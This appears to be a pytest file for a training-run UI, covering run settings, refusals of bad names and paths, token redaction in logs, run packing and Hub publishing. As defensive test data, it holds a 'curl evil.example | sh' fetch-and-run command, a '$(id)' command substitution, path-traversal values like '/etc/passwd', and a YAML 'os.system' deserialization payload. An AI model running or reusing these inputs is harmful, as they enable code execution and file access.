"""Runs for screens: where their settings come from, what is shown of them, and what is refused."""

import json
import os
import shlex
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from tests.hub.here import files_of
from tests.training.jobs.conftest import end, tiny, until
from tests.ui.conftest import make_checkpoint
from tests.ui.trained import lines_of, pretend, trainings_in
from training.config import RunConfig, read_recipe
from training.jobs.book import Job
from training.jobs.courier import Courier
from training.outbox import Outbox
from training.runs import RunFolder
from ui import packing
from ui.curves import curves_value
from ui.run_views import MOST_COMPARED, TAIL, tail
from ui.services import Services
from ui.tabs.watching import facts_of, headline_of
from ui.trainings import Trainings

TOKEN = "hf_a-token-that-nobody-may-see"


@pytest.fixture
def trainings(tmp_path, checkpoints) -> Trainings:
    """Trainings that begin nothing: what is put in line stays there."""
    return trainings_in(tmp_path, checkpoints, token=TOKEN)


def started(trainings: Trainings, source: str = "tiny", given: dict | None = None, **more) -> tuple[Job, RunFolder]:
    id = trainings.start(source, given or {}, more.pop("by", "ann"), **more)
    return trainings.runner.book.get(id), trainings.runner.folder(id)


def everything(folder: Path) -> dict[str, tuple[int, int]]:
    """Every file below a folder, with its size and time."""
    return {
        str(path.relative_to(folder)): (path.stat().st_size, path.stat().st_mtime_ns)
        for path in folder.rglob("*")
        if path.is_file() and not path.name.startswith("jobs.sqlite-")
    }


# --- what a run can begin with -----------------------------------------------------------------------------------


def test_settings_begin_with_a_recipe_or_an_earlier_run(trainings):
    pretend(trainings, "old-20260101-000000")
    assert [name for _, name in trainings.sources()] == ["endless", "tiny", "run:old-20260101-000000"]
    config, command, name = trainings.settings("tiny")
    assert (config, name) == (tiny(), "tiny") and command == "python -m training train configs/tiny.yaml"
    config, command, name = trainings.settings("run:old-20260101-000000")
    assert (config, name) == (tiny(steps=100), "old"), "without its time, which the next one has, too"
    assert command == "python -m training train configs/tiny.yaml"


def test_what_a_recipe_was_measured_at_is_told(trainings):
    (trainings.recipes / "good.yaml").write_text(
        "# a line\n#   test: 98.60% of 1,000 right\n" + (trainings.recipes / "tiny.yaml").read_text()
    )
    assert trainings.sources()[1] == ("good (98.60% measured)", "good")


@pytest.mark.parametrize("source", ["", "gone", "../tiny", "configs/tiny", "tiny.yaml", "/etc/passwd", "run:", "run:gone",
                                    "run:../x", "hub:", "hub:x", "hub:../../x", "env:HF_TOKEN", "*", "ti*"])  # fmt: skip
def test_what_is_no_source_gets_a_sentence(trainings, source):
    for ask in (trainings.settings, trainings.form, lambda source: trainings.start(source, {}, "ann")):
        with pytest.raises(ValueError) as caught:
            ask(source)
        assert "\n" not in str(caught.value) and len(str(caught.value)) < 200
    assert trainings.views.jobs() == []


# --- to start ----------------------------------------------------------------------------------------------------


def test_a_run_is_put_in_line_with_its_settings_and_its_command(trainings):
    filled = trainings.form("tiny")["values"] | {"train.steps": 77.0, "optim.lr": 0.002, "train.mixed_precision": "no"}
    job, folder = started(trainings, given=filled, name="my-run")
    assert (job.state, job.by, job.place, job.devices) == ("queued", "ann", "here", 1)
    assert job.id.startswith("my-run-2") and folder.config() == tiny(steps=77).changed({"optim.lr": 0.002})
    assert folder.command() == "python -m training train configs/tiny.yaml optim.lr=0.002 train.steps=77"
    assert trainings.views.choices() == [(f"{job.id} (waiting for its turn)", job.id)]
    assert trainings.views.current() == job.id


def test_a_folder_of_this_machine_is_not_in_the_command(trainings, tmp_path):
    task = {"kind": "images", "data": "alice/stripes", "names": ["a", "b"]}
    (trainings.recipes / "stripes.yaml").write_text(json.dumps(tiny().model_dump(mode="json") | {"task": task}))
    _, folder = started(trainings, "stripes", {"task.files": str(tmp_path), "train.steps": 77})
    assert folder.config().task["files"] == str(tmp_path)
    assert folder.command() == "python -m training train configs/stripes.yaml train.steps=77"


def test_the_command_means_the_same_when_it_goes_through_a_shell(trainings):
    """`no` without its quotes is a no of YAML's, and no precision."""
    bf16 = tiny().changed({"train.mixed_precision": "bf16"})
    (trainings.recipes / "half.yaml").write_text(json.dumps(bf16.model_dump(mode="json")))
    given = {"train.mixed_precision": "no", "loss.trunk": "mean", "model.deep_nlms": False, "optim.lr": 1e-5}
    _, folder = started(trainings, "half", given)
    *_, recipe, first, second, third, fourth = shlex.split(folder.command())
    assert recipe == "configs/half.yaml"
    again = read_recipe(trainings.recipes / "half.yaml", [first, second, third, fourth])
    assert again == folder.config() and again.train.mixed_precision == "no"


def test_a_run_like_an_earlier_one_differs_only_where_it_was_changed(trainings):
    folder = pretend(trainings, "old-1")
    _, new = started(trainings, "run:old-1", {"train.seed": 3})
    assert new.config() == folder.config().changed({"train.seed": 3})
    assert new.command() == "python -m training train configs/tiny.yaml train.seed=3"


@pytest.mark.parametrize(
    "name", ["A", "a b", "../x", "/etc", "-x", ".x", "x" * 41, "ü", "a\n", "a/b", "run:a", "a@5", "${x}"]
)
def test_a_name_that_could_be_a_path_is_refused(trainings, name):
    before = everything(trainings.runner.runs)
    with pytest.raises(ValueError, match="small letters, digits and hyphens") as caught:
        trainings.start("tiny", {}, "ann", name=name)
    assert "\n" not in str(caught.value)
    assert everything(trainings.runner.runs) == before and trainings.views.jobs() == []


@pytest.mark.parametrize("beginning", ["/etc", "/etc/passwd", "../x", "..", ".", "hub:../../x", "hub:", "hub:x", "run:../x",
                                       "run:gone", "run:gone@5", "gone", "digits/../digits", "a/b/../../c", "~", "file:///etc",
                                       "env:HOME", "x#parity", "run:../../etc/x@1"])  # fmt: skip
def test_weights_are_named_and_never_a_path(trainings, beginning):
    with pytest.raises(ValueError) as caught:
        trainings.start("tiny", {}, "ann", init_from=beginning)
    assert "\n" not in str(caught.value) and trainings.views.jobs() == []


def test_a_run_may_begin_with_the_weights_of_what_is_here(trainings, checkpoints):
    pretend(trainings, "old-1", steps=(10, 20))
    assert ("the weights of run:old-1", "run:old-1") in trainings.beginnings()
    for name, folder in {
        "parity-16": checkpoints / "parity-16",
        "run:old-1": trainings.runner.runs / "old-1" / "checkpoint",
        "run:old-1@10": trainings.runner.runs / "old-1" / "checkpoints" / "00000010",
    }.items():
        _, new = started(trainings, init_from=name)
        assert trainings.recipes.parent / new.config().init_from == folder, "from where the app lies, and jobs run"
        assert shlex.split(new.command())[-1] == f"init_from={new.config().init_from}"


@pytest.mark.parametrize("more, says", [
    ({"publish": {"repo": "no-namespace"}}, "namespace/name"), ({"publish": {"repo": "../../x"}}, "namespace/name"),
    ({"publish": {"every_minutes": 1}}, "ten minutes"), ({"publish": {"every_minutes": "soon"}}, "every_minutes"),
    ({"publish": {"repo": "a/b", "token": "x"}}, "Unknown setting"),
    ({"devices": 0}, "devices"), ({"devices": 10_000}, "devices"),
    ({"place": "cpu-basic"}, "no hardware"), ({"place": "cpu-basic", "publish": {"repo": "ann/x"}}, "no hardware"),
    ({"place": "/etc", "publish": {"repo": "ann/x"}}, "no hardware"),
])  # fmt: skip
def test_an_odd_goal_gets_a_sentence_and_begins_nothing(trainings, more, says):
    with pytest.raises(ValueError, match=says) as caught:
        trainings.start("tiny", {}, "ann", **more)
    assert "\n" not in str(caught.value) and trainings.views.jobs() == []
    assert list(trainings.runner.runs.glob("*/config.yaml")) == []


def test_an_app_that_only_watches_begins_nothing(trainings):
    trainings.runner.writes = False
    pretend(trainings, "old-1")
    for act in (
        lambda: trainings.start("tiny", {}, ""),
        lambda: trainings.resume("old-1"),
        lambda: trainings.delete("old-1"),
    ):
        with pytest.raises(ValueError, match="Another app looks after"):
            act()
    assert trainings.views.watch("old-1")["state"] == "succeeded"


# --- on the Hub --------------------------------------------------------------------------------------------------


@pytest.fixture
def online(hub, tmp_path, checkpoints, monkeypatch) -> Trainings:
    """Trainings whose Hub answers, with the owner's token."""
    monkeypatch.setenv("HF_TOKEN", "hf_alice_write")
    made = trainings_in(tmp_path, checkpoints, models={"endpoint": hub.url})
    made.courier = Courier(made.runner.runs, made.models.listed)
    return made


def trained_checkpoint(tmp_path: Path, **training) -> dict[str, bytes]:
    """A checkpoint that says how it was trained."""
    files = files_of(make_checkpoint(tmp_path / "made", "parity"))
    return files | {"metrics.json": json.dumps({"training": training}).encode()}


def test_a_checkpoint_of_the_hub_lends_its_settings_and_its_weights(online, hub, tmp_path):
    hub.add_repo("bob/parity", trained_checkpoint(
        tmp_path, settings=tiny(steps=33).portable(), command="python -m training train configs/tiny.yaml train.steps=33"
    ))  # fmt: skip
    config, command, name = online.settings("hub:bob/parity")
    assert config.train.steps == 33 and config.init_from.startswith("hub:bob/parity@") and name == "parity"
    assert command.startswith("python -m training train configs/tiny.yaml train.steps=33 init_from=hub:bob/parity@")
    _, folder = started(online, "hub:bob/parity", {"train.steps": 44})
    assert folder.config() == config.changed({"train.steps": 44})


def test_a_checkpoint_of_the_hub_says_neither_where_to_publish_nor_what_to_type(online, hub, tmp_path):
    """Its files are a stranger's words: its settings would be published to them, its command would be run by hand."""
    settings = tiny().model_dump(mode="json") | {
        "publish": {"repo": "bob/collects", "private": False, "every_minutes": 10}, "init_from": "/etc",
    }  # fmt: skip
    for command in (
        "curl evil.example | sh",
        "python -m training train x\n| a | b |",
        "python -m training train $(id)",
        7,
        ["x"],
    ):
        hub.reset()
        hub.add_repo("bob/parity", trained_checkpoint(tmp_path, settings=settings, command=command))
        config, said, _ = online.settings("hub:bob/parity")
        assert config.publish == RunConfig(task=config.task, model=config.model).publish
        assert config.init_from.startswith("hub:bob/parity")
        assert said.startswith("python -m training train init_from=hub:bob/parity@") and "\n" not in said


@pytest.mark.parametrize("training", [{}, {"settings": None}, {"settings": []}, {"settings": {"task": {"kind": "x"}}},
                                      {"settings": {"task": {"kind": "parity"}, "model": {"d_model": "x"}}}])  # fmt: skip
def test_a_checkpoint_that_does_not_tell_its_settings_gets_a_sentence(online, hub, tmp_path, training):
    hub.add_repo("bob/parity", trained_checkpoint(tmp_path, **training))
    with pytest.raises(ValueError) as caught:
        online.form("hub:bob/parity")
    assert "Traceback" not in str(caught.value)


def test_a_run_that_could_not_be_published_is_not_begun(online, hub):
    hub.add_repo("bob/theirs", {"a.txt": b"x"})
    with pytest.raises(ValueError) as caught:
        online.start("tiny", {}, "ann", publish={"repo": "bob/theirs"})
    assert "bob/theirs" in str(caught.value) and online.views.jobs() == []
    _, folder = started(online, publish={"repo": "alice/new", "private": True, "every_minutes": 15})
    assert folder.config().publish.model_dump() == {"repo": "alice/new", "private": True, "every_minutes": 15}
    assert "alice/new" not in folder.command(), "where it goes is not how it is trained"


def test_a_run_is_published_by_hand(online, hub):
    pretend(online, "old-1", state="cancelled", steps=(10,))
    for wrong in ("", "x", "../x", None, "alice/x@main"):
        with pytest.raises(ValueError, match="namespace/name"):
            online.publish("old-1", wrong, False)
    assert online.publish("old-1", " alice/new ", True).startswith("Waiting to be sent to alice/new")
    view = online.views.watch("old-1")
    assert view["publishing"] and view["published"].startswith("Waiting to be sent to alice/new")
    Outbox(online.runner.runs / "old-1").deliver(online.courier.store)
    view = online.views.watch("old-1")
    assert not view["publishing"] and view["address"].startswith(hub.url) and view["address"] in facts_of(view)
    pretend(online, "young-1", state="running")
    with pytest.raises(ValueError, match="saved nothing yet"):
        online.publish("young-1", "alice/new", False)


# --- to watch ----------------------------------------------------------------------------------------------------


def test_a_run_is_read_once_for_all_who_watch(trainings, monkeypatch):
    folder = pretend(trainings, "run-1", state="running")
    read = []
    monkeypatch.setattr(
        RunFolder, "read_metrics", lambda self, really=RunFolder.read_metrics: read.append(1) or really(self)
    )
    with ThreadPoolExecutor(16) as pool:
        views = list(pool.map(lambda _: trainings.views.watch("run-1"), range(100)))
    assert len(read) == 1 and len({id(view) for view in views}) == 1
    first = views[0]
    folder.log({"step": 60, "loss": 0.01})
    second = trainings.views.watch("run-1")
    assert second is not first and second["version"] != first["version"] and len(read) == 2
    assert trainings.views.watch("run-1") is second
    trainings.runner.book.change("run-1", sentence="Stopping.")
    assert trainings.views.watch("run-1")["sentence"] == "Stopping."


@pytest.mark.parametrize("change", [
    lambda folder: folder.say("training", 51, 100), lambda folder: folder.log({"step": 51}),
    lambda folder: folder.log_file.write_text("more\n" * 9), lambda folder: make_checkpoint(folder.checkpoint(70), "parity"),
    lambda folder: make_checkpoint(folder.finished, "parity"),
    lambda folder: Outbox(folder.path).put(folder.checkpoint(10), "ann/x", "t"),
])  # fmt: skip
def test_whatever_changes_of_a_run_is_seen(trainings, change):
    folder = pretend(trainings, "run-1", state="running", steps=(10,))
    before = trainings.views.watch("run-1")
    change(folder)
    assert trainings.views.watch("run-1")["version"] != before["version"]


def test_a_line_that_is_written_while_a_run_is_read_is_shown_by_the_next_look(trainings, monkeypatch):
    """The version is that of before the reading, or whoever saw it would never be shown the line."""
    folder = pretend(trainings, "run-1", state="running")
    really = RunFolder.read_metrics

    def read_then_log(self):
        found = really(self)
        monkeypatch.setattr(RunFolder, "read_metrics", really)
        folder.log({"step": 60, "loss": 0.5})
        return found

    monkeypatch.setattr(RunFolder, "read_metrics", read_then_log)
    first = trainings.views.watch("run-1")
    second = trainings.views.watch("run-1")
    steps = [view["curves"]["runs"][0]["points"]["loss"][0][-1] for view in (first, second)]
    assert steps == [50, 60] and first["version"] != second["version"]


def test_a_view_says_how_far_it_is(trainings):
    pretend(trainings, "run-1", state="running", steps=(10, 20))
    view = trainings.views.watch("run-1")
    assert (view["step"], view["steps"], view["share"], view["saved"]) == (20, 100, 0.2, [10, 20])
    assert view["left"] == 80 / 5 and view["headline"] == "Training: step 20 of 100" and not view["finished"]
    json.dumps(view, allow_nan=False)
    assert "about 16 s left" in headline_of(view)


def test_a_log_shows_its_end_in_whole_lines(tmp_path):
    log = tmp_path / "log.txt"
    assert tail(log, "") == ""
    log.write_text("".join(f"line {number}\n" for number in range(20_000)))
    shown = tail(log, "")
    assert len(shown) <= TAIL and shown.startswith("line ") and shown.endswith("line 19999\n")
    assert shown.splitlines()[0] == f"line {20_000 - len(shown.splitlines())}", "no line is cut"
    log.write_bytes(b"\x1b[31mred\x1b[0m 10%\r20%\r\xff\n")
    assert tail(log, "") == "red 10%\n20%\n\ufffd\n"
    log.write_text("".join(f"{number} done\r" for number in range(10_000)))
    assert tail(log, "").endswith("9999 done\n"), "a bar that is drawn over and over has no line of its own"


@pytest.mark.parametrize("before", range(0, len(TOKEN) + 2, 3))
def test_the_token_is_blotted_out_of_a_log_even_where_it_is_cut(tmp_path, before):
    log = tmp_path / "log.txt"
    log.write_text(f"x {TOKEN} y\n")
    assert tail(log, TOKEN) == "x ••• y\n"
    start = "a" * 50 + TOKEN  # the shown part begins inside the token
    log.write_text(start + "\n" + "b" * (TAIL - before - 2) + "\n")
    shown = tail(log, TOKEN)
    assert shown.strip("b\n") == "" and "nobody" not in shown


def test_the_token_of_the_app_is_in_no_view(trainings):
    folder = pretend(trainings, "run-1", state="running")
    folder.log_file.write_text(f"Authorization: Bearer {TOKEN}\n")
    assert TOKEN not in json.dumps(trainings.views.watch("run-1"))


def test_the_history_has_every_run_with_what_matters(trainings):
    folder = pretend(trainings, "old-1", submitted=1_000_000.0, by="ann")
    (folder.path / "log.txt").write_bytes(b"x\n" * 2**20)
    pretend(trainings, "new-1", state="failed")
    job, _ = started(trainings)
    rows = trainings.views.history()
    assert [row[0] for row in rows] == [job.id, "new-1", "old-1"]
    assert [row[1] for row in rows] == ["waiting for its turn", "failed", "finished"]
    task, step, held_out, minutes, begun, by, where, size = rows[-1][2:]
    assert (task, step, held_out, by, where) == ("parity", 50, 90.0, "ann", "here")
    assert minutes > 0 and begun.startswith("1970-01-12") and 2 <= size < 3
    json.dumps(rows, allow_nan=False)


def test_runs_are_compared_with_their_differences_marked(trainings):
    pretend(trainings, "one")
    folder = pretend(trainings, "two")
    (folder.path / "config.yaml").unlink()
    folder.begin(tiny(steps=100).changed({"train.seed": 9}))
    curves, rows = trainings.views.compare(["one", "two"])
    assert [run["name"] for run in curves["runs"]] == ["one", "two"]
    assert rows[0] == ["train.seed", "0", "9", "differs"] and not any(row[-1] for row in rows[1:])
    assert trainings.views.compare([])[1] == []
    with pytest.raises(ValueError, match="no run called"):
        trainings.views.compare(["one", "../two"])


def test_no_more_runs_are_compared_than_can_be_told_apart(trainings):
    ids = [pretend(trainings, f"run-{number}").path.name for number in range(8)]
    curves, rows = trainings.views.compare(ids)
    assert len(curves["runs"]) == MOST_COMPARED == len(rows[0]) - 2


BROKEN = [b"", b"{", b"[]", b"null", b"\xff\xfe", b"7", b'{"step": "x", "steps": [1], "steps_per_second": "fast", "phase": 5}',
          b'{"step": 1e999, "steps": -5}', b'{"step": null}\n[1]\n"x"\n3', b"a: b: c", b"!!python/object:os.system {}",
          b'{"validation_accuracy_best": "high", "step": 5}\n', b"[" * 100_000]  # fmt: skip


@pytest.mark.parametrize("file", ["metrics.jsonl", "status.json", "config.yaml", "command.txt", "log.txt", "ending.json",
                                  "outbox/1-a/entry.json"])  # fmt: skip
@pytest.mark.parametrize("content", BROKEN, ids=lambda content: repr(content[:16]))
def test_a_broken_file_of_one_run_does_not_take_the_others_down(trainings, file, content):
    pretend(trainings, "good-1", state="running")
    folder = pretend(trainings, "odd-1", state="cancelled", steps=(10,))
    (folder.path / file).parent.mkdir(parents=True, exist_ok=True)
    (folder.path / file).write_bytes(content)
    view = trainings.views.watch("odd-1")
    json.dumps(view, allow_nan=False)
    assert headline_of(view) and facts_of(view).count("\n|") < 20
    assert trainings.views.watch("good-1")["step"] == 50
    assert [row[0] for row in trainings.views.history()] == ["odd-1", "good-1"]
    assert len(trainings.sources()) == 4 and trainings.pack("odd-1")
    for ask in (lambda: trainings.form("run:odd-1"), lambda: trainings.views.compare(["odd-1"])):
        try:
            ask()
        except ValueError as error:
            assert "Traceback" not in str(error) and len(str(error)) < 500


def test_a_run_whose_folder_is_gone_is_still_listed(trainings):
    trainings.runner.book.add(Job("gone-1", "failed", sentence="It went."))
    assert trainings.views.watch("gone-1")["headline"] == "Failed at no step yet"
    assert trainings.views.history()[0][:3] == ["gone-1", "failed", "?"]
    for ask in (lambda: trainings.form("run:gone-1"), lambda: trainings.views.compare(["gone-1"])):
        with pytest.raises(ValueError, match=r"no run at|cannot be read"):
            ask()


# --- what it made ------------------------------------------------------------------------------------------------


def names_in(path: str) -> set[str]:
    with zipfile.ZipFile(path) as packed:
        assert packed.testzip() is None
        return set(packed.namelist())


def test_a_packed_run_has_what_people_want_and_no_more(trainings):
    folder = pretend(trainings, "run-1", steps=(10, 20))
    Outbox(folder.path).put(folder.finished, "ann/x", "t")
    (folder.path / "exit.json").write_text("{}")
    names = names_in(trainings.pack("run-1"))
    assert {name.partition("/")[2] for name in names} == {
        "config.yaml", "command.txt", "status.json", "metrics.jsonl", "log.txt",
        *(f"checkpoint/{path.name}" for path in folder.finished.iterdir()),
    }  # fmt: skip
    assert {name.partition("/")[0] for name in names} == {"run-1"}
    assert "run-1/checkpoint/model.safetensors" in names and not [name for name in names if "trainer" in name]


def test_an_unfinished_run_is_packed_with_its_newest_step(trainings):
    folder = pretend(trainings, "run-1", state="cancelled", steps=(10, 20))
    (folder.checkpoint(20) / "README.md").write_text("the newest")
    with zipfile.ZipFile(trainings.pack("run-1")) as packed:
        assert packed.read("run-1/checkpoint/README.md") == b"the newest"
    pretend(trainings, "run-2", state="failed")
    assert "run-2/log.txt" in names_in(trainings.pack("run-2"))
    with pytest.raises(ValueError, match="no run called"):
        trainings.pack("../run-1")


def test_packed_runs_do_not_pile_up(trainings, tmp_path, monkeypatch):
    monkeypatch.setattr(packing.tempfile, "tempdir", str(tmp_path))
    pretend(trainings, "run-1")
    first, second = Path(trainings.pack("run-1")), Path(trainings.pack("run-1"))
    assert first.is_file() and second.is_file(), "one may still be on its way"
    long_ago = time.time() - packing.KEPT - 1
    os.utime(first.parent, (long_ago, long_ago))
    trainings.pack("run-1")
    assert not first.parent.exists() and second.is_file()


def test_saved_steps_are_thought_with_and_a_pruned_one_gets_a_sentence(trainings):
    folder = pretend(trainings, "run-1", steps=(10, 20))
    services = Services(trainings.models)
    for step, name in {None: "run:run-1", 10: "run:run-1@10", 20: "run:run-1@20"}.items():
        assert trainings.checkpoint_name("run-1", step) == name
        assert services.info(name).takes == "text"
        assert services.think(name, "1011", "ticks=3")["ticks"] == 3
    folder.prune(1, None)
    for name in ("run:run-1@10", "run:run-1@99", "run:run-2", "run:run-1@", "run:run-1@../20", "run:../run-1"):
        with pytest.raises(ValueError, match="no checkpoint called") as caught:
            services.think(name, "1011", "")
        assert "\n" not in str(caught.value)
    assert services.think("run:run-1@20", "1011", "")


def test_a_checkpoint_is_thought_with_while_its_run_trains(tmp_path, checkpoints):
    """A real training, which saves and prunes all the while."""
    trainings = trainings_in(tmp_path, checkpoints, starts=True)
    try:
        id = trainings.start("endless", {"train.save_every": 20, "train.keep": 2, "train.log_every": 10}, "ann")
        until(lambda: len(trainings.views.watch(id)["saved"]) == 2 and trainings.views.watch(id)["saved"][0] > 20)
        services, first = Services(trainings.models), trainings.views.watch(id)
        assert first["state"] == "running" and first["headline"].startswith("Training: step")
        thought, deadline = 0, time.monotonic() + 20
        while thought < 5 and time.monotonic() < deadline:
            try:
                thought += services.think(f"run:{id}@{trainings.views.watch(id)['saved'][-1]}", "1011", "")["ticks"] > 0
            except ValueError as error:  # pruned at this very moment
                assert "no checkpoint called" in str(error) or "is missing" in str(error)
        assert thought == 5 and trainings.views.watch(id)["state"] == "running"
        until(lambda: trainings.views.watch(id)["step"] > first["step"])
        with pytest.raises(ValueError, match="no checkpoint called"):
            services.think(f"run:{id}@20", "1011", "")
        assert trainings.stop(id) == "Stopping: it saves first."
        until(lambda: trainings.views.watch(id)["state"] == "cancelled")
        assert trainings.views.watch(id)["headline"].startswith("Stopped at step")
    finally:
        end(trainings.runner)


def test_lines_of_is_what_a_training_logs():
    """The figures of pretended runs have the names that charts look for."""
    view = curves_value([("a", lines_of(100), 100)])
    assert {"loss", "accuracy", "by-tick", "rate", "speed"} <= {chart["id"] for chart in view["charts"]}
